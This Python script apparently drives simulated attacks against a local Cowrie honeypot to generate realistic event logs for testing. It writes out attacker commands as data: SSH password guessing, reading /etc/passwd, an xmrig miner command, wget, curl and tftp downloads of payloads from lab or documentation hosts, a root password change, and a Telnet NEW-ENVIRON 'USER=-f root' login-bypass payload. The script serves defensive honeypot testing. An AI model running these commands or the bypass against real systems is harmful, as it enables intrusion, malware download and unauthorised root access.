"""Plays an attacker against a local Cowrie honeypot so it writes genuine JSON events.

Every scenario is a real client talking to Cowrie over loopback: AsyncSSH and OpenSSH
(ssh, scp, sftp) for SSH, raw sockets for Telnet and for protocol garbage. Run by
generate.sh inside a private network namespace; needs the venv's asyncssh.

Usage: driver.py WORKDIR   (WORKDIR holds the client key and upload files it creates)
"""

import asyncio
import os
import socket
import ssl
import sys
import time

import asyncssh

HOST = "127.0.0.1"
SSH_PORT = 2222
TELNET_PORT = 2223
LAB = "192.0.0.9:8000"  # lab web server (see lab_servers.py)
PROMPT = b"# "
MSG_CHANNEL_REQUEST = 98


def step(text):
    print(f"[driver] {text}", flush=True)


class Guesser(asyncssh.SSHClient):
    """A brute-forcer: offers passwords in turn until one is accepted or the list runs out."""

    def __init__(self, passwords):
        self.passwords = list(passwords)

    def password_auth_requested(self):
        return self.passwords.pop(0) if self.passwords else None


def guesser(passwords):
    return lambda: Guesser(passwords)


async def connect(username, passwords, **kw):
    return await asyncssh.connect(
        HOST,
        SSH_PORT,
        username=username,
        known_hosts=None,
        client_keys=None,
        client_factory=guesser(passwords),
        preferred_auth="password",
        **kw,
    )


async def expect(stream, token, timeout=15.0):
    """Reads from a process stream until `token` appears; returns what was read."""
    buf = b""
    deadline = time.monotonic() + timeout
    while token not in buf:
        left = deadline - time.monotonic()
        if left <= 0:
            raise TimeoutError(f"waiting for {token!r}, got {buf[-200:]!r}")
        chunk = await asyncio.wait_for(stream.read(4096), left)
        if not chunk:
            raise EOFError(f"stream closed waiting for {token!r}")
        buf += chunk
    return buf


async def failed_bruteforce():
    step("ssh: three rejected passwords, then give up")
    try:
        await connect("root", ["root", "123456", "honeypot"])
    except asyncssh.PermissionDenied:
        return
    raise RuntimeError("cowrie accepted a password its userdb denies")


async def interactive_shell():
    step("ssh: one rejected password, then an interactive shell")
    conn = await connect("root", ["123456", "P@ssw0rd2024"])
    async with conn:
        proc = await conn.create_process(
            term_type="xterm-256color", term_size=(120, 40), env={"LANG": "en_US.UTF-8"}, encoding=None
        )
        await expect(proc.stdout, PROMPT)

        async def run(line, wait_for=PROMPT, timeout=20.0):
            proc.stdin.write(line.encode() + b"\n")
            return await expect(proc.stdout, wait_for, timeout)

        for line in [
            "uname -a",
            "cat /etc/passwd",
            "whoami",
            "xmrig --donate-level 1 -o stratum+tcp://pool.example:3333",
            f"wget http://{LAB}/x.sh",
            f"curl -o /tmp/bot.bin http://{LAB}/bot.bin",
            f"wget http://{LAB}/missing.sh",
            "wget http://[2606:4700:4700::1111]/v6.sh",
            "echo 'root:N3wPassw0rd' | chpasswd",
            "echo 'ward was here' > /tmp/note.txt",
            "busybox echo ward",
        ]:
            await run(line)
        await run("passwd", b"password: ")
        await run("hunter2", b"password: ")
        await run("hunter2")
        await run("cat", b"")
        await asyncio.sleep(0.3)
        proc.stdin.write(b"stdin line one\n")
        await expect(proc.stdout, b"stdin line one")
        proc.stdin.write(b"\x04")
        await expect(proc.stdout, PROMPT)
        proc.stdin.write(b"exit\n")
        await proc.wait_closed()


async def exec_with_stdin():
    step("ssh: exec commands, one reading stdin")
    conn = await connect("admin", ["admin"])
    async with conn:
        await conn.run("id", check=False)
        await conn.run("cat > /tmp/.s.sh", input="#!/bin/sh\necho dropped by stdin\n", check=False)


async def port_forwards():
    step("ssh: direct-tcpip forwards (discarded, redirected, tunnelled)")
    conn = await connect("root", ["forward-me"])
    async with conn:
        get = b"GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n"
        await forward(conn, "example.com", 80, get)
        await forward(conn, "example.org", 443, client_hello("example.org"))
        await forward(conn, "intranet.example", 8081, b"GET /x.sh HTTP/1.0\r\nHost: intranet\r\n\r\n")
        await forward(conn, "db.example", 8082, b"GET /status HTTP/1.1\r\nHost: db.example\r\n\r\n")


async def forward(conn, host, port, payload):
    reader, writer = await conn.open_connection(host, port)
    writer.write(payload)
    try:
        await asyncio.wait_for(reader.read(65536), 5)
    except (TimeoutError, asyncssh.Error, ConnectionError):
        pass
    writer.close()
    await asyncio.sleep(0.5)


def client_hello(server_name):
    """The ClientHello a real TLS client (Python's ssl) sends first."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=server_name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


async def malformed_packet():
    step("ssh: truncated channel request after login")
    conn = await connect("root", ["malformed"])
    conn.send_packet(MSG_CHANNEL_REQUEST, b"\x00\x00")
    await asyncio.wait_for(conn.wait_closed(), 10)


def askpass_env(workdir, password):
    path = os.path.join(workdir, "askpass.sh")
    with open(path, "w") as f:
        f.write(f"#!/bin/sh\necho '{password}'\n")
    os.chmod(path, 0o700)
    return {**os.environ, "SSH_ASKPASS": path, "SSH_ASKPASS_REQUIRE": "force", "DISPLAY": ":0"}


OPENSSH_OPTS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]


async def openssh(workdir, password, *args, stdin=None):
    proc = await asyncio.create_subprocess_exec(
        *args,
        env=askpass_env(workdir, password),
        stdin=asyncio.subprocess.DEVNULL if stdin is None else asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
        start_new_session=True,
    )
    out, _ = await asyncio.wait_for(proc.communicate(stdin), 60)
    step(f"  {args[0]} exited {proc.returncode}: {out.decode(errors='replace').strip()[:200]}")


async def openssh_sessions(workdir):
    key = os.path.join(workdir, "id_ed25519")
    if not os.path.exists(key):
        asyncssh.generate_private_key("ssh-ed25519", comment="attacker@kali").write_private_key(key)
    upload = os.path.join(workdir, "rootkit.tgz")
    with open(upload, "wb") as f:
        f.write(b"ward fixture upload\n" * 64)
    step("openssh: public key offered and refused, then password; exec")
    await openssh(
        workdir, "Summer2024", "ssh", *OPENSSH_OPTS, "-p", str(SSH_PORT), "-i", key,
        "-o", "PreferredAuthentications=publickey,password", f"root@{HOST}", "uname -a; id",
    )
    step("openssh: keyboard-interactive exec")
    await openssh(
        workdir, "qwerty", "ssh", *OPENSSH_OPTS, "-p", str(SSH_PORT), "-o", "PubkeyAuthentication=no",
        "-o", "PreferredAuthentications=keyboard-interactive", f"oracle@{HOST}", "cat /proc/cpuinfo | grep name | head -1",
    )
    step("openssh: scp upload (legacy scp protocol)")
    await openssh(
        workdir, "Summer2024", "scp", "-O", *OPENSSH_OPTS, "-P", str(SSH_PORT), "-o", "PubkeyAuthentication=no",
        upload, f"root@{HOST}:/tmp/",
    )
    step("openssh: sftp upload")
    # Commands on stdin rather than -b, which would forbid the password prompt.
    await openssh(
        workdir, "Summer2024", "sftp", *OPENSSH_OPTS, "-P", str(SSH_PORT), "-o", "PubkeyAuthentication=no",
        f"root@{HOST}", stdin=f"put {upload} /tmp/sftp-rootkit.tgz\nbye\n".encode(),
    )


def raw_probe(port, data):
    """Sends bytes that are not the expected protocol and reads until the server hangs up."""
    with socket.create_connection((HOST, port), timeout=10) as s:
        s.sendall(data)
        try:
            while s.recv(4096):
                pass
        except OSError:
            pass


IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
NAWS, NEW_ENVIRON = 31, 39


class Telnet:
    """A small Telnet client: refuses every option except NAWS, which it reports as 80x24."""

    def __init__(self, greeting=b""):
        self.sock = socket.create_connection((HOST, TELNET_PORT), timeout=15)
        self.buf = b""
        if greeting:
            self.sock.sendall(greeting)

    def expect(self, token):
        while token not in self.buf:
            data = self.sock.recv(4096)
            if not data:
                raise EOFError(f"telnet closed waiting for {token!r}")
            self.buf += self.negotiate(data)
        _, _, self.buf = self.buf.partition(token)

    def negotiate(self, data):
        text, i = b"", 0
        while i < len(data):
            if data[i] == IAC and i + 2 < len(data) and data[i + 1] in (DO, DONT, WILL, WONT):
                self.answer(data[i + 1], data[i + 2])
                i += 3
            elif data[i] == IAC and i + 1 < len(data):
                i += 2
            else:
                text += data[i : i + 1]
                i += 1
        return text

    def answer(self, verb, option):
        if verb == DO and option == NAWS:
            self.sock.sendall(bytes([IAC, WILL, NAWS, IAC, SB, NAWS, 0, 80, 0, 24, IAC, SE]))
        elif verb == DO:
            self.sock.sendall(bytes([IAC, WONT, option]))
        elif verb == WILL:
            self.sock.sendall(bytes([IAC, DONT, option]))

    def line(self, text, then):
        self.sock.sendall(text.encode() + b"\r\n")
        self.expect(then)

    def close(self):
        self.sock.close()


def telnet_login():
    step("telnet: two wrong passwords, then a shell")
    t = Telnet()
    t.expect(b"login: ")
    for password in ["root", "123456", "xc3511"]:
        t.line("root", b"Password: ")
        t.line(password, b"# " if password == "xc3511" else b"login: ")
    t.line("uname -a", b"# ")
    t.line("cat /proc/cpuinfo | grep name | head -1", b"# ")
    t.line("tftp -g -r mips.bin 203.0.113.50", b"# ")
    t.sock.sendall(b"exit\r\n")
    time.sleep(1)
    t.close()


def telnet_exploit():
    step("telnet: CVE-2026-24061 NEW-ENVIRON USER=-f root")
    environ = bytes([IAC, SB, NEW_ENVIRON, 0, 0]) + b"USER" + bytes([1]) + b"-f root" + bytes([IAC, SE])
    t = Telnet(environ)
    t.expect(b"login: ")
    t.line("root", b"Password: ")
    t.line("id", b"# ")
    t.line("id", b"# ")
    t.sock.sendall(b"exit\r\n")
    time.sleep(1)
    t.close()


async def main(workdir):
    await failed_bruteforce()
    await interactive_shell()
    await exec_with_stdin()
    await port_forwards()
    await malformed_packet()
    await openssh_sessions(workdir)
    step("raw: HTTP request to the SSH port")
    raw_probe(SSH_PORT, b"GET / HTTP/1.1\r\nHost: 127.0.0.1:2222\r\n\r\n")
    telnet_login()
    telnet_exploit()
    step("raw: invalid Telnet command byte")
    raw_probe(TELNET_PORT, bytes([IAC, 0x10]) + b"\r\n")
    await asyncio.sleep(2)
    step("done")


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
